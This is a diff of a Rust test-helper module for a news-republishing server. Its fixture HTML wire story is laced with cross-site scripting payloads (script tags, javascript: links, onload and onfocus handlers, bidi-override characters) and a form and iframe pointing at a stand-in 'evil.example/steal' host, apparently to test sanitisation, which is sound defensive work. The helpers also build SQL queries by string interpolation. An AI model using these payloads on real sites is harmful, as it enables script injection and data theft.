@@ -3,6 +3,7 @@
 use std::path::{Path, PathBuf};
 use std::sync::LazyLock;
 
+use axum::Router;
 use axum::body::{Body, to_bytes};
 use axum::http::header::{HOST, LOCATION};
 use axum::http::{HeaderMap, Request, StatusCode};
@@ -22,12 +23,12 @@ pub(crate) const WIRE: &str = r#"<!doctype html><html lang="en"><head>
 <script>document.title = "owned"</script></head><body>
 <nav><a href="javascript:alert(3)">Home</a> <a href="/x">Weather</a></nav>
 <svg onload="alert(4)"><text>Drawn words of an advertisement</text></svg>
-<article><h1>Weir at Oststeg gives way</h1>
+<article><h1>Weir at Oststeg gives way &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>
 <p>OSTSTEG&#8238;&#8236; — At least 14 people were killed when the old weir at Oststeg gave way on Monday night, the Lower Marl River Board said.</p>
-<p>Another 22 people were injured, the board’s spokeswoman Ilka Brandvold told Quill Wire by telephone. She said she could not rule out that more would be found under the mud.</p>
-<p>“We had asked for the money to mend it three years in a row,” Brandvold said. The Ministry of Works denied that it had been warned about the weir.</p>
+<p>Another 22 people were injured, the board’s spokeswoman Ilka Brandvold told Quill Wire by telephone. She said she could not rule out that more would be found under the mud. Quill Wire could not independently verify either figure.</p>
+<p>“We had asked for the money to mend it three years in a row,” Brandvold said. The Ministry of Works denied that it had been warned about the weir.&#8238; txet desrever&#8236;&#7;</p>
 <p>The board said that 310 people were moved to a school in the village of Henning overnight &lt;svg/onload=alert(5)&gt; and would stay there for a week.</p>
-<p>Quill Wire could not independently verify the number of dead.&#8238;txet desrever&#8236;&#7;</p></article>
+</article>
 <form action="//evil.example/steal"><input name="q" autofocus onfocus="alert(6)"></form>
 <footer>Copyright Quill Wire 2034. All rights reserved.<iframe src="//evil.example"></iframe></footer></body></html>"#;
 
@@ -36,7 +37,7 @@ const COPY: &str = "The Oststeg Lantern\n\nWeir gives way at Oststeg\n\nBy Tam F
 OSTSTEG — At least 16 people were killed when the old weir at Oststeg gave way on Monday night, the Lower Marl River Board said.\n\n\
 Another 22 people were injured, the board’s spokeswoman Ilka Brandvold told Quill Wire by telephone. She said she could not rule out that more would be found under the mud.\n\n\
 “We had asked for the money to mend it three years in a row,” Brandvold said. The Ministry of Works denied that it had been warned about the weir.\n\n\
-The board said that 310 people were moved to a school in the village of Henning overnight and would stay there for a week.\n";
+The board said that 310 people were brought to a school in the village of Henning overnight and would stay there for a week.\n";
 
 /// A report of its own, and a long text.
 fn ready() -> String {
@@ -47,10 +48,17 @@ fn ready() -> String {
                  The baker Orla Tennick said she had counted 290 people in the school on Tuesday morning.\n\
                  Nobody knows yet who will pay for the bread, Tennick said.",
     });
-    let line = "The clerk said that the meeting of that evening went on until 11 people were left in the hall of the old mill. ";
+    let filler = "The lamps were low and the stove was cold, and the talk went round the hall as it does in Henning. ";
+    let part = |at: usize| {
+        format!(
+            "The clerk said that in round {at} of the vote {} people were left in the hall. {}",
+            at + 3,
+            filler.repeat(9)
+        )
+    };
     let long = serde_json::json!({
         "title": "Minutes of a long night", "outlet": "Henning Herald", "language": "en",
-        "text": (0..60).map(|part| format!("Part {part}. {}", line.repeat(9))).collect::<Vec<_>>().join("\n"),
+        "text": (0..60).map(part).collect::<Vec<String>>().join("\n"),
     });
     format!("{own}\n{long}\n")
 }
@@ -145,13 +153,20 @@ pub(crate) fn options() -> Options {
     }
 }
 
+/// The server as `restated serve` starts it.
+static SERVER: LazyLock<Router> = LazyLock::new(|| router(&options()).unwrap());
+
 /// What the server that `options` describe answers.
 pub(crate) fn send(options: &Options, request: Request<Body>) -> Answer {
+    answer(router(options).unwrap(), request)
+}
+
+fn answer(server: Router, request: Request<Body>) -> Answer {
     let runtime = tokio::runtime::Builder::new_current_thread()
         .build()
         .unwrap();
     runtime.block_on(async {
-        let answer = router(options).unwrap().oneshot(request).await.unwrap();
+        let answer = server.oneshot(request).await.unwrap();
         let (parts, body) = answer.into_parts();
         Answer {
             status: parts.status,
@@ -170,7 +185,7 @@ pub(crate) fn asking(address: &str) -> axum::http::request::Builder {
 
 /// What is at `address`.
 pub(crate) fn get(address: &str) -> Answer {
-    send(&options(), asking(address).body(Body::empty()).unwrap())
+    answer(SERVER.clone(), asking(address).body(Body::empty()).unwrap())
 }
 
 /// The page at `address`, which must be there.
@@ -194,9 +209,29 @@ pub(crate) fn one(sql: &str) -> String {
         .clone()
 }
 
-/// The article of an outlet.
-pub(crate) fn article(outlet: &str) -> String {
+/// The article whose title begins so.
+fn article(title: &str) -> String {
     one(&format!(
-        "SELECT id FROM articles WHERE outlet = '{outlet}' ORDER BY length(text)"
+        "SELECT id FROM articles WHERE title LIKE '{title}%'"
     ))
+}
+
+/// The wire report, its copy, a report of somebody else, and a long text.
+pub(crate) fn wire() -> String {
+    article("Weir at Oststeg gives way")
+}
+
+/// See [`wire`].
+pub(crate) fn copy() -> String {
+    article("Weir gives way")
+}
+
+/// See [`wire`].
+pub(crate) fn own() -> String {
+    article("Bakers of Henning")
+}
+
+/// See [`wire`].
+pub(crate) fn long() -> String {
+    article("Minutes of a long night")
 }
